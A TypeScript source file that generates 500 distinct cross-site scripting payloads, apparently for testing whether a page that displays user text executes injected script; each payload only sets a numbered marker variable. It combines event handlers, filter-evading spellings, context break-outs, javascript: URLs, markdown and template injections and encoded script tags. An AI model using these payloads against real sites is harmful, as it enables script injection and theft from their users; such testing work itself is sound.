/** What each payload does where it runs: it leaves a mark on the page, by its number. */
const mark = (number: number) => `menoRan=${number}`;

/** Elements whose handlers fire by themselves or at a touch, with the handlers. */
const HANDLERS: readonly [element: string, handler: string][] = [
  ...(
    ['img src=x', 'image src=x', 'video src=x', 'audio src=x', 'input type=image src=x', 'object data=x'] as const
  ).map((element): [string, string] => [element, 'onerror']),
  ...(['svg', 'body', 'iframe', 'style', 'link rel=stylesheet href=/'] as const).map((element): [string, string] => [
    element,
    'onload',
  ]),
  ...(['input autofocus', 'select autofocus', 'a href=# autofocus', 'div tabindex=1 autofocus'] as const).map(
    (element): [string, string] => [element, 'onfocus'],
  ),
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['p style=animation:x', 'onanimationstart'],
  ['button', 'onclick'],
  ['div', 'onpointerover'],
];

/** Ways to write a handler that filters have been fooled by. */
const SPELLINGS: readonly ((element: string, handler: string, run: string) => string)[] = [
  (element, handler, run) => `<${element} ${handler}=${run}>`,
  (element, handler, run) => `<${element}/${handler}="${run}"//`,
  (element, handler, run) => `<${element.toUpperCase()} ${handler.replace('on', 'oN')}='${run}'>`,
  (element, handler, run) => `<${element}\t${handler}\n=\r${run}>`,
  (element, handler, run) => `<<${element} ${handler}=${run}>>`,
];

/** What comes before, to break out of where a word may stand. */
const PLACES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'>${attack}`,
  (attack) => `</title></textarea></script></style>${attack}`,
];

/** Scripts and addresses. */
const SCRIPTS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script/x>${run}</script\t>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href="jav&#x09;ascript:${run}">x</a>`,
  (run) => `<a href=" &#14; javascript:${run}">x</a>`,
  (run) => `[x](javascript:${run})`,
  (run) => `[x](JaVaScRiPt&colon;${run})`,
  (run) => `![x](x"onerror="${run})`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `"-${run}-"`,
  (run) => `';${run};//`,
  (run) => `\`;${run};//`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `$\\href{javascript:${run}}{x}$`,
];

/** 500 attempts to have a script run where words of people are shown, all different; each under 130 characters. */
export function scriptPayloads(): string[] {
  const attacks: ((run: string) => string)[] = [
    ...SCRIPTS.flatMap((attack) => PLACES.map((place) => (run: string) => place(attack(run)))),
    ...HANDLERS.flatMap(([element, handler]) =>
      SPELLINGS.flatMap((spell) => PLACES.map((place) => (run: string) => place(spell(element, handler, run)))),
    ),
  ];
  return attacks.slice(0, 500).map((attack, number) => attack(mark(number + 1)));
}
